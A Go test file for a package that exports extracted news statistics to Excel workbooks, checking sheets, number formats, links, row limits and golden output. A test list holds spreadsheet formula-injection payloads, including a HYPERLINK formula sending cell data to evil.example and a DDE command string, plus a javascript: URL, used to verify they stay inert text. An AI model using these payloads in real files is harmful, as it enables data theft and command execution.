package reports_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"flag"
	"image"
	"image/color"
	"image/png"
	"io"
	"maps"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/tradestats/tradestats/reports"
	"github.com/tradestats/tradestats/stats"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

func ptr(f float64) *float64 { return &f }

// hostile are texts that spreadsheets would run as formulas if they were
// written as such.
var hostile = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", `=cmd|' /C calc'!A0`}

// sampleClaims are invented claims covering every unit, ranges, partial
// dates and hostile text.
func sampleClaims() []stats.Claim {
	return []stats.Claim{
		{Text: "around 62 percent", Value: 62, Unit: stats.UnitPercent, Approx: stats.About, Subject: "APEC", Metric: "share of world gdp", Period: "2023",
			Sentence: "APEC represents around 62 percent of the world's GDP and nearly half of global trade.", Article: "a1", Title: "APEC leaders meet in Lima", Source: "examples/apec.txt", Date: "2024-11-10"},
		{Text: "nearly half", Value: 50, Unit: stats.UnitPercent, Approx: stats.Under, Subject: "APEC", Metric: "share of global trade",
			Sentence: "APEC represents around 62 percent of the world's GDP and nearly half of global trade.", Article: "a1", Title: "APEC leaders meet in Lima", Source: "examples/apec.txt", Date: "2024-11-10"},
		{Text: "4.25%", Value: 4.25, Unit: stats.UnitPercent, Approx: stats.Exact, Subject: "Canada", Metric: "policy rate", Change: stats.Down,
			Sentence: "The Bank of Canada cut its policy rate to 4.25%.", Article: "c1", Title: "Canada cuts rates again", Source: "examples/canada.txt", Date: "2024-10"},
		{Text: "50 basis points", Value: 0.5, Unit: stats.UnitPercentagePoint, Approx: stats.Exact, Subject: "Canada", Metric: "rate cut",
			Sentence: "It was a cut of 50 basis points.", Article: "c1", Title: "Canada cuts rates again", Source: "examples/canada.txt", Date: "2024-10"},
		{Text: "38.37 billion dlrs", Value: 38.37e9, Unit: stats.UnitMoney, Currency: "USD", Approx: stats.Exact, Subject: "United States", Metric: "trade deficit", Period: "1986-Q4",
			Sentence: "The trade deficit narrowed to 38.37 billion dlrs in the fourth quarter.", Article: "u1", Title: "U.S. deficit narrows", Source: "reuters.jsonl", Date: "1987-02-26"},
		{Text: "1.50 dlrs per barrel", Value: 1.5, Unit: stats.UnitMoney, Currency: "USD", UnitName: "barrel", Approx: stats.Exact, Subject: "OPEC", Metric: "price cut",
			Sentence: "OPEC cut prices by 1.50 dlrs per barrel.", Article: "u1", Title: "U.S. deficit narrows", Source: "reuters.jsonl", Date: "1987-02-26"},
		{Text: "3-4%", Value: 3, Max: ptr(4), Unit: stats.UnitPercent, Approx: stats.Exact, Subject: "Vietnam", Metric: "gdp growth",
			Sentence: "Growth of 3-4% is expected.", Article: "v1", Title: "Vietnam's trade", Source: "examples/vietnam.txt"},
		{Text: "21 member economies", Value: 21, Unit: stats.UnitCount, Item: "member economies", Approx: stats.Exact, Subject: "APEC", Metric: "member economies",
			Sentence: "APEC has 21 member economies.", Article: "v1", Title: "Vietnam's trade", Source: "examples/vietnam.txt"},
		{Text: "second-largest", Value: 2, Unit: stats.UnitOrdinal, Subject: "China", Metric: "trading partner rank", Approx: stats.Exact,
			Sentence: hostile[0], Article: "h1", Title: hostile[1], Source: hostile[2], Date: "2024"},
		{Text: hostile[3], Value: 2.5, Unit: stats.UnitMultiple, Subject: hostile[4], Metric: hostile[5], Approx: stats.Exact,
			Sentence: hostile[6], Article: "h1", Title: hostile[1], Source: hostile[2], Date: "2024"},
		{Text: "30 years", Value: 30, Unit: stats.UnitQuantity, UnitName: "year", Approx: stats.Exact, Subject: "Peru", Metric: "membership",
			Sentence: "Peru joined 30 years ago.", Article: "a1", Title: "APEC leaders meet in Lima", Source: "examples/apec.txt", Date: "2024-11-10"},
	}
}

func sampleArticles() []stats.Article {
	return []stats.Article{
		{ID: "a1", Title: "APEC leaders meet in Lima", Date: "2024-11-10", Source: "examples/apec.txt", URL: "https://news.example/apec-lima"},
		{ID: "c1", Title: "Canada cuts rates again", Date: "2024-10", Source: "examples/canada.txt", URL: "javascript:alert(1)"},
		{ID: "z9", Title: "An article without figures", Date: "2024-11-01", Source: "examples/none.txt", URL: "http://news.example/none"},
	}
}

func sampleGroups() []stats.Group {
	return []stats.Group{
		{
			GroupKey: stats.GroupKey{Subject: "APEC", Metric: "share of world gdp", Unit: stats.UnitPercent, Period: "2023"},
			Verdict:  stats.Conflict, Min: 40, Median: 60, Max: 62, Spread: 22, RelativeSpread: 22.0 / 60, Articles: 3,
			Claims: []stats.GroupClaim{
				{Article: "a1", Title: "APEC leaders meet in Lima", Date: "2024-11-10", Text: "around 62 percent", Value: 62, Approx: stats.About, Low: 60, High: 64, Sentence: "APEC represents around 62 percent of the world's GDP."},
				{Article: "a2", Title: "Peru hosts summit", Date: "2024-11-12", Text: "nearly 60 percent", Value: 60, Approx: stats.Under, Low: 58, High: 60, Sentence: "Nearly 60 percent of world GDP."},
				{Article: "a3", Title: hostile[0], Date: "2024-11-16", Text: "at least 40 percent", Value: 40, Approx: stats.Over, Low: 40, High: math.Inf(1), Sentence: hostile[3], Outlier: true},
			},
		},
		{
			GroupKey: stats.GroupKey{Subject: "United States", Metric: "trade deficit", Unit: stats.UnitMoney, Currency: "USD", Period: "1986-Q4", Change: stats.Down},
			Verdict:  stats.Tension, Min: 38.37e9, Median: 38.8e9, Max: 39.2e9, Spread: 0.83e9, RelativeSpread: 0.83 / 38.8, Articles: 2,
			Claims: []stats.GroupClaim{
				{Article: "u1", Title: "U.S. deficit narrows", Date: "1987-02-26", Text: "38.37 billion dlrs", Value: 38.37e9, Low: 38.365e9, High: 38.375e9},
				{Article: "u2", Title: "Deficit wider than thought", Date: "1987-03-02", Text: "39.2 billion dlrs", Value: 39.2e9, Low: 39.15e9, High: 39.25e9},
			},
		},
		{
			GroupKey: stats.GroupKey{Subject: "APEC", Metric: "member economies", Unit: stats.UnitCount, UnitName: "economy"},
			Verdict:  stats.Consistent, Min: 21, Median: 21, Max: 21, Articles: 2,
			Claims: []stats.GroupClaim{
				{Article: "v1", Title: "Vietnam's trade", Text: "21 member economies", Value: 21, Low: 20.5, High: 21.5},
				{Article: "a1", Title: "APEC leaders meet in Lima", Date: "2024-11-10", Text: "21", Value: 21, Low: 20.5, High: 21.5},
			},
		},
	}
}

// each turns a slice into the iterator the workbook takes, reusing one
// claim value as a database cursor would.
func each(claims []stats.Claim) func(yield func(*stats.Claim) error) error {
	return func(yield func(*stats.Claim) error) error {
		var c stats.Claim
		for i := range claims {
			c = claims[i]
			if err := yield(&c); err != nil {
				return err
			}
		}
		return nil
	}
}

func eachArticle(as []stats.Article) func(yield func(*stats.Article) error) error {
	return func(yield func(*stats.Article) error) error {
		for i := range as {
			if err := yield(&as[i]); err != nil {
				return err
			}
		}
		return nil
	}
}

// testPNG is a small chart image.
func testPNG(t testing.TB, w, h int) []byte {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for x := range w {
		img.Set(x, h/2, color.Black)
	}
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

var generated = time.Date(2024, 11, 20, 9, 30, 0, 0, time.UTC)

// writeSample writes the sample workbook and opens it again.
func writeSample(t *testing.T, opt reports.WorkbookOptions) (*excelize.File, []byte) {
	t.Helper()
	opt.Generated = generated
	opt.Version = "v0.1.0"
	opt.TmpDir = t.TempDir()
	in := reports.WorkbookInput{
		Claims:   each(sampleClaims()),
		Articles: eachArticle(sampleArticles()),
		Groups:   sampleGroups(),
	}
	var buf bytes.Buffer
	if err := reports.Workbook(&buf, in, opt); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, buf.Bytes()
}

func TestWorkbookSheets(t *testing.T) {
	f, _ := writeSample(t, reports.WorkbookOptions{Charts: []reports.Chart{
		{File: "charts/compare-01.png", Title: "Articles disagree", Subtitle: "Share of world GDP", Source: "Source: 3 articles", PNG: testPNG(t, 400, 300)},
	}})
	want := []string{"Summary", "Claims", "Articles", "Comparisons", "Charts"}
	if got := f.GetSheetList(); !slices.Equal(got, want) {
		t.Fatalf("sheets = %q, want %q", got, want)
	}
	for _, tt := range []struct {
		sheet  string
		header []string
		rows   int // data rows
	}{
		{"Claims", reports.ClaimsHeader, len(sampleClaims())},
		{"Articles", reports.ArticlesHeader, 6}, // 3 listed (one without claims) + 3 named only by claims
		{"Comparisons", reports.ComparisonsHeader, 3 + 2 + 2},
	} {
		rows, err := f.GetRows(tt.sheet)
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) == 0 || !slices.Equal(rows[0], tt.header) {
			t.Errorf("%s header = %q, want %q", tt.sheet, rows[0], tt.header)
		}
		if got := len(rows) - 1; got != tt.rows {
			t.Errorf("%s: %d data rows, want %d", tt.sheet, got, tt.rows)
		}
		panes, err := f.GetPanes(tt.sheet)
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: header not frozen: %+v %v", tt.sheet, panes, err)
		}
	}
	for _, sheet := range []string{"Claims", "Articles", "Comparisons"} {
		tables, err := f.GetTables(sheet)
		if err != nil || len(tables) != 1 || *tables[0].ShowRowStripes != true {
			t.Errorf("%s: tables = %+v, %v; want one banded table", sheet, tables, err)
		}
	}
	if tables, _ := f.GetTables("Claims"); len(tables) == 1 && tables[0].Range != "A1:V12" {
		t.Errorf("Claims table range = %s, want A1:V12", tables[0].Range)
	}
}

// cellOf finds the cell in column col of sheet whose row has want in
// column key.
func cellOf(t *testing.T, f *excelize.File, sheet, key, want, col string) string {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	k, _ := excelize.ColumnNameToNumber(key)
	for i, r := range rows {
		if len(r) >= k && r[k-1] == want {
			return col + strconv.Itoa(i+1)
		}
	}
	t.Fatalf("%s: no row with %q in column %s", sheet, want, key)
	return ""
}

func numFmtOf(t *testing.T, f *excelize.File, sheet, cell string) string {
	t.Helper()
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	if st.CustomNumFmt == nil {
		return ""
	}
	return *st.CustomNumFmt
}

func TestWorkbookNumberFormats(t *testing.T) {
	f, _ := writeSample(t, reports.WorkbookOptions{})
	for _, tt := range []struct {
		text    string // the claim's text (column C)
		fmt     string
		raw     string // the stored value
		display string
	}{
		{"4.25%", `0.0##"%"`, "4.25", "4.25%"},
		{"around 62 percent", `0"%"`, "62", "62%"},
		{"38.37 billion dlrs", `"$"#,##0`, "38370000000", "$38,370,000,000"},
		{"1.50 dlrs per barrel", `"$"#,##0.00##`, "1.5", "$1.50"},
		{"50 basis points", `0.0##" pp"`, "0.5", "0.5 pp"},
		{"21 member economies", `#,##0`, "21", "21"},
	} {
		cell := cellOf(t, f, "Claims", "C", tt.text, "D")
		if got := numFmtOf(t, f, "Claims", cell); got != tt.fmt {
			t.Errorf("%s: number format %q, want %q", tt.text, got, tt.fmt)
		}
		raw, _ := f.GetCellValue("Claims", cell, excelize.Options{RawCellValue: true})
		if raw != tt.raw {
			t.Errorf("%s: stored %q, want %q (percent figures are not divided by 100)", tt.text, raw, tt.raw)
		}
		if got, _ := f.GetCellValue("Claims", cell); got != tt.display {
			t.Errorf("%s: shown as %q, want %q", tt.text, got, tt.display)
		}
	}
	// The range's upper end has the unit's format too.
	cell := cellOf(t, f, "Claims", "C", "3-4%", "E")
	if got, _ := f.GetCellValue("Claims", cell); got != "4%" {
		t.Errorf("range max shown as %q, want 4%%", got)
	}
	// Full dates are dates; partial dates stay text.
	cell = cellOf(t, f, "Claims", "C", "4.25%", "B")
	if typ, _ := f.GetCellType("Claims", cell); typ != excelize.CellTypeInlineString {
		t.Errorf("partial date %s has type %v, want text", cell, typ)
	}
	cell = cellOf(t, f, "Claims", "C", "around 62 percent", "B")
	if got := numFmtOf(t, f, "Claims", cell); got != "yyyy-mm-dd" {
		t.Errorf("date format %q", got)
	}
	if got, _ := f.GetCellValue("Claims", cell); got != "2024-11-10" {
		t.Errorf("date shown as %q", got)
	}
	// Sentences wrap.
	cell = cellOf(t, f, "Claims", "C", "4.25%", "S")
	id, _ := f.GetCellStyle("Claims", cell)
	if st, _ := f.GetStyle(id); st.Alignment == nil || !st.Alignment.WrapText {
		t.Errorf("sentence cell %s does not wrap", cell)
	}
}

func TestWorkbookNoFormulas(t *testing.T) {
	f, raw := writeSample(t, reports.WorkbookOptions{})
	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := f.GetCellFormula(sheet, cell)
				if err != nil {
					t.Fatal(err)
				}
				if formula != "" {
					t.Errorf("%s!%s has formula %q", sheet, cell, formula)
				}
				for _, h := range hostile {
					if v == h {
						found[h] = true
						typ, _ := f.GetCellType(sheet, cell)
						if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
							t.Errorf("%s!%s = %q has type %v, want a string", sheet, cell, v, typ)
						}
					}
				}
			}
		}
	}
	for _, h := range hostile {
		if !found[h] {
			t.Errorf("hostile text %q did not round-trip", h)
		}
	}
	// No <f> element anywhere in the worksheets.
	zr, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/sheet") {
			continue
		}
		b := readZip(t, zf)
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s holds a formula element", zf.Name)
		}
	}
}

func readZip(t *testing.T, zf *zip.File) []byte {
	t.Helper()
	rc, err := zf.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestWorkbookLinksAndColours(t *testing.T) {
	f, raw := writeSample(t, reports.WorkbookOptions{Charts: []reports.Chart{
		{File: "charts/a.png", Title: "A", PNG: testPNG(t, 200, 100)},
		{File: "charts/b.png", Title: "B", PNG: testPNG(t, 200, 100)},
	}})
	cell := cellOf(t, f, "Articles", "F", "a1", "D")
	if ok, link, err := f.GetCellHyperLink("Articles", cell); err != nil || !ok || link != "https://news.example/apec-lima" {
		t.Errorf("Articles!%s link = %v %q %v", cell, ok, link, err)
	}
	cell = cellOf(t, f, "Articles", "F", "c1", "D")
	if ok, _, _ := f.GetCellHyperLink("Articles", cell); ok {
		t.Errorf("javascript: URL made a live link")
	}
	if v, _ := f.GetCellValue("Articles", cell); v != "javascript:alert(1)" {
		t.Errorf("javascript: URL text = %q", v)
	}
	// Claim counts per article, and the article without claims.
	for id, want := range map[string]string{"a1": "3", "z9": "0", "h1": "2"} {
		if v, _ := f.GetCellValue("Articles", cellOf(t, f, "Articles", "F", id, "E")); v != want {
			t.Errorf("article %s: %s claims, want %s", id, v, want)
		}
	}

	cf, err := f.GetConditionalFormats("Comparisons")
	if err != nil {
		t.Fatal(err)
	}
	rules := cf["B2:B8"]
	var values []string
	for _, r := range rules {
		values = append(values, r.Value)
	}
	if want := []string{`"conflict"`, `"tension"`, `"consistent"`, `"outlier"`}; !slices.Equal(values, want) {
		t.Errorf("Comparisons conditional formats = %v, want rules for %v", cf, want)
	}

	cells, err := f.GetPictureCells("Charts")
	if err != nil || len(cells) != 2 {
		t.Errorf("Charts pictures at %v (%v), want 2", cells, err)
	}
	// The native chart reads the subject counts from the sheet's cells.
	zr, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	var chart []byte
	for _, zf := range zr.File {
		if zf.Name == "xl/charts/chart1.xml" {
			chart = readZip(t, zf)
		}
	}
	if !bytes.Contains(chart, []byte("Charts!$B$3:$B$")) || !bytes.Contains(chart, []byte("Charts!$A$3:$A$")) {
		t.Errorf("no native chart over Charts!A3:B…: %.300s", chart)
	}
	if v, _ := f.GetCellValue("Charts", "A3"); v != "APEC" {
		t.Errorf("Charts!A3 = %q, want the subject with most claims", v)
	}
}

// TestWorkbookSpill checks that no sheet passes MaxRows (Excel's limit of
// 1,048,576 rows, lowered here): Claims, Articles and Comparisons go on in
// further sheets, each with its header, and together hold every row. A
// comparison group starts a new sheet rather than be cut, unless it is
// longer than a sheet.
func TestWorkbookSpill(t *testing.T) {
	claims := sampleClaims() // 11 claims of 5 articles
	groups := sampleGroups() // 3 groups of 3, 2 and 2 figures: a row each
	for _, tt := range []struct {
		maxRows int
		sheets  []string
	}{
		{5, []string{"Summary", "Claims", "Claims (2)", "Claims (3)", "Articles", "Articles (2)",
			"Comparisons", "Comparisons (2)", "Charts"}},
		{3, []string{"Summary", "Claims", "Claims (2)", "Claims (3)", "Claims (4)", "Claims (5)", "Claims (6)",
			"Articles", "Articles (2)", "Articles (3)",
			"Comparisons", "Comparisons (2)", "Comparisons (3)", "Comparisons (4)", "Charts"}},
	} {
		var buf bytes.Buffer
		err := reports.Workbook(&buf, reports.WorkbookInput{Claims: each(claims), Groups: groups},
			reports.WorkbookOptions{MaxRows: tt.maxRows, Generated: generated, TmpDir: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if got := f.GetSheetList(); !slices.Equal(got, tt.sheets) {
			t.Fatalf("MaxRows %d: sheets = %q, want %q", tt.maxRows, got, tt.sheets)
		}
		total := map[string]int{}
		for _, s := range tt.sheets {
			base, _, _ := strings.Cut(s, " (")
			head := map[string][]string{"Claims": reports.ClaimsHeader, "Articles": reports.ArticlesHeader,
				"Comparisons": reports.ComparisonsHeader}[base]
			if head == nil {
				continue
			}
			rows, _ := f.GetRows(s)
			if len(rows) > tt.maxRows || !slices.Equal(rows[0], head) {
				t.Errorf("MaxRows %d: %s has %d rows, header %q", tt.maxRows, s, len(rows), rows[0])
			}
			total[base] += len(rows) - 1
		}
		if want := map[string]int{"Claims": len(claims), "Articles": 5, "Comparisons": 3 + 2 + 2}; !maps.Equal(total, want) {
			t.Errorf("MaxRows %d: rows %v, want %v", tt.maxRows, total, want)
		}
		if tt.maxRows == 5 {
			// The second group starts the second sheet, whole, with its
			// frame on every row.
			for _, cell := range []string{"G2", "G3"} {
				if v, _ := f.GetCellValue("Comparisons (2)", cell); v != "trade deficit" {
					t.Errorf("Comparisons (2)!%s = %q, want the second group's metric", cell, v)
				}
			}
		}
		f.Close()
	}
}

func TestWorkbookEmptyAndErrors(t *testing.T) {
	var buf bytes.Buffer
	if err := reports.Workbook(&buf, reports.WorkbookInput{Claims: each(nil)}, reports.WorkbookOptions{TmpDir: t.TempDir()}); err != nil {
		t.Fatalf("empty dataset: %v", err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := f.GetRows("Claims")
	if len(rows) != 1 {
		t.Errorf("empty Claims: %d rows", len(rows))
	}
	f.Close()

	if err := reports.Workbook(io.Discard, reports.WorkbookInput{}, reports.WorkbookOptions{}); err == nil {
		t.Errorf("no Claims iterator: no error")
	}
	boom := errors.New("boom")
	failing := func(yield func(*stats.Claim) error) error { return boom }
	if err := reports.Workbook(io.Discard, reports.WorkbookInput{Claims: failing}, reports.WorkbookOptions{}); !errors.Is(err, boom) {
		t.Errorf("failing iterator: err = %v, want boom", err)
	}
	bad := reports.WorkbookOptions{Charts: []reports.Chart{{File: "x.png", PNG: []byte("not a png")}}}
	if err := reports.Workbook(io.Discard, reports.WorkbookInput{Claims: each(nil)}, bad); err == nil || !strings.Contains(err.Error(), "x.png") {
		t.Errorf("bad PNG: err = %v", err)
	}
}

// TestWorkbookGolden compares every sheet's displayed values with
// testdata/workbook.golden.tsv (go test ./reports -update rewrites it).
func TestWorkbookGolden(t *testing.T) {
	f, _ := writeSample(t, reports.WorkbookOptions{})
	var b strings.Builder
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		b.WriteString("## " + sheet + "\n")
		for _, r := range rows {
			for i, v := range r {
				r[i] = strings.NewReplacer("\t", `\t`, "\r", `\r`, "\n", `\n`).Replace(v)
			}
			b.WriteString(strings.Join(r, "\t") + "\n")
		}
	}
	golden(t, "workbook.golden.tsv", b.String())
}

// golden compares got with testdata/name, or rewrites it with -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./reports -update)", err)
	}
	if got != string(want) {
		actual := path + ".actual"
		_ = os.WriteFile(actual, []byte(got), 0o644)
		t.Errorf("%s differs from the golden file; got written to %s (diff them, or -update)", name, actual)
	}
}
